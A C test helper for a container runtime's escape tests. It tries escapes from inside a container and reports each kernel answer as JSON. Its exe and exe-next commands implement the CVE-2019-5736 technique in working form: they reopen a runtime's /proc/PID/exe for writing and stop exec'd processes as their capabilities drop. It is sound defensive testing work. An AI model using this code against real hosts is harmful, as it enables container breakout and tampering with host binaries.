/* attack: a static helper that tries, from inside a container, the escapes the escape tests
 * check. Every attempt is reported as what the kernel answered ("ok" or an errno name), as one
 * JSON object on stdout (or in the file given with `-o FILE`); the tests decide what must fail.
 * Nothing here is destructive when it succeeds: writes are opens without a byte written,
 * module loads are given garbage, a module unload names a module that does not exist, and
 * the only file ever written is the runtime binary the /proc/PID/exe attacks reach (the
 * tests hand the runtime a private copy of isola for those).
 *
 *   attack pids HOSTPID            the pids /proc shows, whether HOSTPID (a host process) is
 *                                  visible or signalable
 *   attack write PATH...           open(O_WRONLY) of each path; for a directory, creating a
 *                                  file in it
 *   attack read PATH...            bytes readable (up to 1 MiB) or, for a directory, entries
 *   attack mount                   mount/umount/new mount API calls, also from a new user
 *                                  namespace (locked mounts)
 *   attack module                  init_module, finit_module, delete_module
 *   attack mknod TYPE MAJ MIN...   mknod /dev/isola-escape-N (b or c) and open it
 *   attack open PATH...            open(O_RDONLY) of device nodes that exist
 *   attack hostname NAME           sethostname/setdomainname, then what uname says
 *   attack exe PID WAIT_S          CVE-2019-5736's technique against a runtime process: open
 *                                  /proc/PID/exe (and O_PATH, /proc/PID/mem, ptrace), and when
 *                                  that gives a handle, keep trying to reopen it for writing
 *                                  for WAIT_S seconds (the binary is busy while it runs)
 *   attack exe-next N WAIT_S       the same against the next N processes born in this pid
 *                                  namespace (an `isola exec` child): each is SIGSTOPped as
 *                                  soon as its pid exists, let run until it holds no
 *                                  capability we lack (before that the kernel's capability
 *                                  rule alone refuses us), stopped again and attacked, then
 *                                  continued; creates /tmp/attack-ready when it starts
 *                                  watching (exe creates it once it has its handle)
 *
 * It refuses to run unless ISOLA_ATTACK_OK is set in its environment (the tests put it in
 * process.env), so that running it on the host by mistake changes nothing there.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;
static int first = 1;

static const char *errname(int e) {
  switch (e) {
  case 0: return "ok";
  case EACCES: return "EACCES";
  case EPERM: return "EPERM";
  case EROFS: return "EROFS";
  case ENOENT: return "ENOENT";
  case EISDIR: return "EISDIR";
  case ENOTDIR: return "ENOTDIR";
  case EEXIST: return "EEXIST";
  case EINVAL: return "EINVAL";
  case ENXIO: return "ENXIO";
  case ENODEV: return "ENODEV";
  case EIO: return "EIO";
  case ESRCH: return "ESRCH";
  case ENOSYS: return "ENOSYS";
  case EFAULT: return "EFAULT";
  case ENOEXEC: return "ENOEXEC";
  case ETXTBSY: return "ETXTBSY";
  case EBUSY: return "EBUSY";
  case EBADF: return "EBADF";
  case ENOSPC: return "ENOSPC";
  case EWOULDBLOCK: return "EWOULDBLOCK";
  default: return strerror(e);
  }
}

static void put_str(const char *s) {
  fputc('"', out);
  for (; *s; s++) {
    unsigned char c = (unsigned char)*s;
    if (c == '"' || c == '\\') fprintf(out, "\\%c", c);
    else if (c < 0x20 || c >= 0x7f) fprintf(out, "\\u%04x", c);
    else fputc(c, out);
  }
  fputc('"', out);
}

static void key(const char *k) {
  if (!first) fputc(',', out);
  first = 0;
  put_str(k);
  fputc(':', out);
}

/* "name": "ok" | "ERRNO" for a call that returned r (errno is read when r < 0). */
static void result(const char *k, long r) {
  int e = r < 0 ? errno : 0;
  key(k);
  put_str(errname(e));
}

static void kv_str(const char *k, const char *v) {
  key(k);
  put_str(v);
}

static void kv_num(const char *k, long long v) {
  key(k);
  fprintf(out, "%lld", v);
}

static int cmd_pids(int argc, char **argv) {
  pid_t host = argc > 0 ? atoi(argv[0]) : 0;
  kv_num("self", getpid());
  key("pids");
  fputc('[', out);
  DIR *d = opendir("/proc");
  struct dirent *e;
  int n = 0;
  while (d && (e = readdir(d)))
    if (e->d_name[0] >= '0' && e->d_name[0] <= '9') fprintf(out, "%s%s", n++ ? "," : "", e->d_name);
  if (d) closedir(d);
  fputc(']', out);
  if (host > 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/status", host);
    result("host_proc", access(path, F_OK));
    result("host_kill", kill(host, 0));
  }
  return 0;
}

static int cmd_write(int argc, char **argv) {
  for (int i = 0; i < argc; i++) {
    struct stat sb;
    long r;
    if (stat(argv[i], &sb) == 0 && S_ISDIR(sb.st_mode)) {
      char path[4096];
      snprintf(path, sizeof path, "%s/isola-escape", argv[i]);
      r = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
      if (r >= 0) unlink(path);
    } else {
      r = open(argv[i], O_WRONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    }
    result(argv[i], r);
    if (r >= 0) close((int)r);
  }
  return 0;
}

static int cmd_read(int argc, char **argv) {
  static char buf[1 << 20];
  for (int i = 0; i < argc; i++) {
    struct stat sb;
    if (stat(argv[i], &sb) == 0 && S_ISDIR(sb.st_mode)) {
      DIR *d = opendir(argv[i]);
      if (!d) {
        result(argv[i], -1);
        continue;
      }
      long n = 0;
      struct dirent *e;
      while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) n++;
      closedir(d);
      kv_num(argv[i], n);
      continue;
    }
    int fd = open(argv[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
      result(argv[i], -1);
      continue;
    }
    long total = 0;
    ssize_t got;
    while (total < (long)sizeof buf && (got = read(fd, buf, sizeof buf - total)) > 0) total += got;
    close(fd);
    kv_num(argv[i], total);
  }
  return 0;
}

#ifndef SYS_fsopen
#define SYS_fsopen 430
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#define OPEN_TREE_CLONE_ 1

static void mount_attempts(const char *prefix) {
  char k[128];
#define TRY(name, call)                                                                            \
  do {                                                                                             \
    snprintf(k, sizeof k, "%s%s", prefix, name);                                                   \
    long r_ = (call);                                                                              \
    result(k, r_);                                                                                 \
  } while (0)
  TRY("mount_tmpfs", mount("tmpfs", "/mnt", "tmpfs", 0, NULL));
  TRY("mount_proc", mount("proc", "/mnt", "proc", 0, NULL));
  TRY("mount_sysfs", mount("sysfs", "/mnt", "sysfs", 0, NULL));
  TRY("bind_root", mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL));
  TRY("remount_proc_sys_rw", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  TRY("umount_kcore", umount2("/proc/kcore", MNT_DETACH));
  TRY("umount_proc_sys", umount2("/proc/sys", MNT_DETACH));
  long fd = syscall(SYS_fsopen, "tmpfs", 0);
  TRY("fsopen", fd);
  if (fd >= 0) close((int)fd);
  fd = syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE_);
  TRY("open_tree_clone", fd);
  if (fd >= 0) close((int)fd);
#undef TRY
}

static int cmd_mount(void) {
  mount_attempts("");
  /* A new user namespace (when seccomp lets it be made) has every capability over its own
   * mount namespace, but the mounts inherited from the container are locked together: the
   * masks cannot be taken off, and a fresh proc is refused while /proc is partly covered. */
  long r = unshare(CLONE_NEWUSER | CLONE_NEWNS);
  result("unshare_user_mnt", r);
  if (r == 0) mount_attempts("userns_");
  return 0;
}

static int cmd_module(void) {
  static char junk[64] = "\x7f" "ELF this is not a module";
  result("init_module", syscall(SYS_init_module, junk, sizeof junk, ""));
  int fd = open("/bin/busybox", O_RDONLY | O_CLOEXEC);
  if (fd < 0) fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  result("finit_module", syscall(SYS_finit_module, fd, "", 0));
  if (fd >= 0) close(fd);
  result("delete_module", syscall(SYS_delete_module, "isola_no_such_module", O_NONBLOCK));
  return 0;
}

static int cmd_mknod(int argc, char **argv) {
  for (int i = 0; i + 2 < argc; i += 3) {
    char path[64], k[96];
    snprintf(path, sizeof path, "/dev/isola-escape-%d", i / 3);
    mode_t type = argv[i][0] == 'b' ? S_IFBLK : S_IFCHR;
    dev_t dev = makedev(atoi(argv[i + 1]), atoi(argv[i + 2]));
    snprintf(k, sizeof k, "mknod %s %s:%s", argv[i], argv[i + 1], argv[i + 2]);
    long r = mknod(path, type | 0600, dev);
    result(k, r);
    snprintf(k, sizeof k, "open %s %s:%s", argv[i], argv[i + 1], argv[i + 2]);
    if (r == 0) {
      long fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
      result(k, fd);
      if (fd >= 0) close((int)fd);
      unlink(path);
    } else {
      kv_str(k, "no node");
    }
  }
  return 0;
}

static int cmd_open(int argc, char **argv) {
  for (int i = 0; i < argc; i++) {
    long fd = open(argv[i], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    result(argv[i], fd);
    if (fd >= 0) close((int)fd);
  }
  return 0;
}

static int cmd_hostname(const char *name) {
  result("sethostname", sethostname(name, strlen(name)));
  result("setdomainname", setdomainname(name, strlen(name)));
  struct utsname u;
  uname(&u);
  kv_str("nodename", u.nodename);
  kv_str("domainname", u.domainname);
  return 0;
}

/* Creates /tmp/attack-ready (not empty: the tests wait for content). */
static void signal_ready(void) {
  int fd = open("/tmp/attack-ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd >= 0) {
    if (write(fd, "ready\n", 6) != 6) perror("attack-ready");
    close(fd);
  }
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* What one runtime process gives away: its exe (readlink, open, O_PATH), its memory, ptrace.
 * `fd` is a handle on its executable when one was had (else -1). */
struct exposure {
  char readlink[256]; /* the link, or an errno name */
  int open_exe, opath_exe, open_mem, ptrace_; /* errno, 0 = it worked */
  int fd;
  struct stat sb;
};

static void probe_process(pid_t pid, struct exposure *x) {
  char path[64];
  memset(x, 0, sizeof *x);
  x->fd = -1;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, x->readlink, sizeof x->readlink - 1);
  if (n < 0) snprintf(x->readlink, sizeof x->readlink, "%s", errname(errno));
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  x->open_exe = fd < 0 ? errno : 0;
  int pfd = open(path, O_PATH | O_CLOEXEC);
  x->opath_exe = pfd < 0 ? errno : 0;
  if (fd < 0 && pfd >= 0) fd = pfd;
  else if (pfd >= 0) close(pfd);
  if (fd >= 0 && fstat(fd, &x->sb) == 0) x->fd = fd;
  else if (fd >= 0) close(fd);
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int mfd = open(path, O_RDWR | O_CLOEXEC);
  x->open_mem = mfd < 0 ? errno : 0;
  if (mfd >= 0) close(mfd);
  long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
  x->ptrace_ = r < 0 ? errno : 0;
  if (r == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void report_process(const struct exposure *x, const char *k) {
  char key_[128];
#define K(name) (snprintf(key_, sizeof key_, "%s%s", k, name), key_)
  kv_str(K("readlink"), x->readlink);
  kv_str(K("open_exe"), errname(x->open_exe));
  kv_str(K("opath_exe"), errname(x->opath_exe));
  if (x->fd >= 0) {
    kv_num(K("exe_dev"), (long long)x->sb.st_dev);
    kv_num(K("exe_ino"), (long long)x->sb.st_ino);
  }
  kv_str(K("open_mem"), errname(x->open_mem));
  kv_str(K("ptrace"), errname(x->ptrace_));
#undef K
}

/* The second half of the technique: once the runtime no longer runs the binary (ETXTBSY
 * until then), reopen the handle for writing and append a marker. */
static void try_overwrite(int fd, double wait_s, const char *k) {
  char path[64], key_[128];
  /* A handle on one of the container's own files (a process caught after its execve) is no
   * escape: leave that file alone. */
  struct stat mine, it;
  if (fstat(fd, &it) == 0 && (stat("/bin/busybox", &mine) == 0 || stat("/proc/self/exe", &mine) == 0) &&
      mine.st_dev == it.st_dev && mine.st_ino == it.st_ino) {
    snprintf(key_, sizeof key_, "%sopen_exe_for_write", k);
    kv_str(key_, "skipped: the container's own file");
    return;
  }
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  double start = now(), end = start + wait_s;
  long r;
  int e, tries = 0;
  do {
    tries++;
    r = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    e = errno;
    if (r >= 0 || e != ETXTBSY) break;
    nanosleep(&(struct timespec){0, 10 * 1000 * 1000}, NULL);
  } while (now() < end);
  snprintf(key_, sizeof key_, "%sopen_exe_for_write", k);
  errno = e;
  result(key_, r);
  snprintf(key_, sizeof key_, "%swrite_tries", k);
  kv_num(key_, tries);
  snprintf(key_, sizeof key_, "%swrite_ms", k);
  kv_num(key_, (long long)((now() - start) * 1000));
  if (r >= 0) {
    static const char mark[] = "\nISOLA-ESCAPED\n";
    ssize_t w = write((int)r, mark, sizeof mark - 1);
    snprintf(key_, sizeof key_, "%swrote", k);
    kv_num(key_, w);
    close((int)r);
  }
}

static int cmd_exe(pid_t pid, double wait_s) {
  struct exposure x;
  kv_num("pid", pid);
  probe_process(pid, &x);
  report_process(&x, "");
  /* Tell the test the handle is had (or not). */
  signal_ready();
  if (x.fd >= 0) try_overwrite(x.fd, wait_s, "");
  return 0;
}

/* Is `pid` stopped (state T or t), or gone? */
static bool is_stopped(pid_t pid) {
  char path[64], buf[512];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return true;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return true;
  buf[n] = 0;
  char *p = strrchr(buf, ')');
  return !p || p[2] == 'T' || p[2] == 't' || p[2] == 'Z' || p[2] == 'X';
}

/* CapEff of `pid` (/proc/PID/status is readable without ptrace access); false when gone. */
static bool cap_eff(pid_t pid, unsigned long long *caps) {
  char path[64], buf[4096];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return false;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return false;
  buf[n] = 0;
  char *p = strstr(buf, "\nCapEff:");
  if (!p) return false;
  *caps = strtoull(p + 8, NULL, 16);
  return true;
}

/* Puts us and `pid` on different CPUs when there are two, so that the target runs while we
 * watch it (on one CPU, a woken target would run for a whole time slice before we look). */
static void split_cpus(pid_t pid) {
  cpu_set_t set;
  if (sched_getaffinity(0, sizeof set, &set) < 0 || CPU_COUNT(&set) < 2) return;
  int a = -1, b = -1;
  for (int c = 0; c < CPU_SETSIZE && b < 0; c++)
    if (CPU_ISSET(c, &set)) {
      if (a < 0) a = c;
      else b = c;
    }
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(a, &one);
  sched_setaffinity(0, sizeof one, &one);
  CPU_ZERO(&one);
  CPU_SET(b, &one);
  sched_setaffinity(pid, sizeof one, &one);
}

static int cmd_exe_next(int count, double wait_s) {
  /* The next pid this namespace hands out: fork once to learn where the counter is. */
  pid_t probe = fork();
  if (probe == 0) _exit(0);
  waitpid(probe, NULL, 0);
  pid_t next = probe + 1;
  unsigned long long mine = 0;
  cap_eff(getpid(), &mine);
  int fds[64], nfds = 0;
  if (count > 64) count = 64;
  double end = now() + wait_s;
  kv_num("first_target", next);
  /* Tell the test we are ready (it starts the `exec`s once this file exists). */
  signal_ready();
  for (int i = 0; i < count && now() < end; i++, next++) {
    /* Stop it the moment its pid exists... */
    while (kill(next, SIGSTOP) < 0 && now() < end) {
    }
    if (now() >= end) break;
    while (!is_stopped(next)) {
    }
    split_cpus(next);
    struct exposure first, x;
    probe_process(next, &first);
    if (first.fd >= 0) close(first.fd);
    /* ...then let it run until it holds no capability we lack: before that the kernel's
     * capability rule alone refuses us (a tracer must hold the target's capabilities).
     * From there to execve, only non-dumpability protects it. */
    kill(next, SIGCONT);
    unsigned long long caps = ~0ULL;
    bool alive;
    while ((alive = cap_eff(next, &caps)) && (caps & ~mine) && now() < end) {
    }
    kill(next, SIGSTOP);
    while (alive && !is_stopped(next)) {
    }
    probe_process(next, &x);
    char k[32], key_[64];
    snprintf(k, sizeof k, "t%d_", i);
    snprintf(key_, sizeof key_, "%spid", k);
    kv_num(key_, next);
    snprintf(key_, sizeof key_, "%sfirst_readlink", k);
    kv_str(key_, first.readlink);
    snprintf(key_, sizeof key_, "%sfirst_open_exe", k);
    kv_str(key_, errname(first.open_exe));
    snprintf(key_, sizeof key_, "%scaps_dropped", k);
    kv_num(key_, alive && !(caps & ~mine));
    report_process(&x, k);
    kill(next, SIGCONT);
    if (x.fd >= 0 && nfds < 64) fds[nfds++] = x.fd;
  }
  /* We are the container's init: the last target dies with us, so let it finish first. */
  for (double stop = now() + 10; kill(next - 1, 0) == 0 && now() < stop;)
    nanosleep(&(struct timespec){0, 10 * 1000 * 1000}, NULL);
  for (int i = 0; i < nfds; i++) {
    char k[32];
    snprintf(k, sizeof k, "fd%d_", i);
    try_overwrite(fds[i], 3.0, k);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (!getenv("ISOLA_ATTACK_OK")) {
    fprintf(stderr, "attack: ISOLA_ATTACK_OK is not set: refusing to run outside a test container\n");
    return 2;
  }
  out = stdout;
  if (argc > 2 && !strcmp(argv[1], "-o")) {
    out = fopen(argv[2], "w");
    if (!out) {
      perror(argv[2]);
      return 2;
    }
    argc -= 2, argv += 2;
  }
  if (argc < 2) {
    fprintf(stderr, "usage: attack pids|write|read|mount|module|mknod|open|hostname|exe|exe-next ...\n");
    return 2;
  }
  const char *c = argv[1];
  int rc = 2;
  fputc('{', out);
  if (!strcmp(c, "pids")) rc = cmd_pids(argc - 2, argv + 2);
  else if (!strcmp(c, "write")) rc = cmd_write(argc - 2, argv + 2);
  else if (!strcmp(c, "read")) rc = cmd_read(argc - 2, argv + 2);
  else if (!strcmp(c, "mount")) rc = cmd_mount();
  else if (!strcmp(c, "module")) rc = cmd_module();
  else if (!strcmp(c, "mknod")) rc = cmd_mknod(argc - 2, argv + 2);
  else if (!strcmp(c, "open")) rc = cmd_open(argc - 2, argv + 2);
  else if (!strcmp(c, "hostname") && argc > 2) rc = cmd_hostname(argv[2]);
  else if (!strcmp(c, "exe") && argc > 3) rc = cmd_exe(atoi(argv[2]), atof(argv[3]));
  else if (!strcmp(c, "exe-next") && argc > 3) rc = cmd_exe_next(atoi(argv[2]), atof(argv[3]));
  else fprintf(stderr, "attack: unknown command `%s`\n", c);
  fputs("}\n", out);
  fclose(out);
  return rc;
}
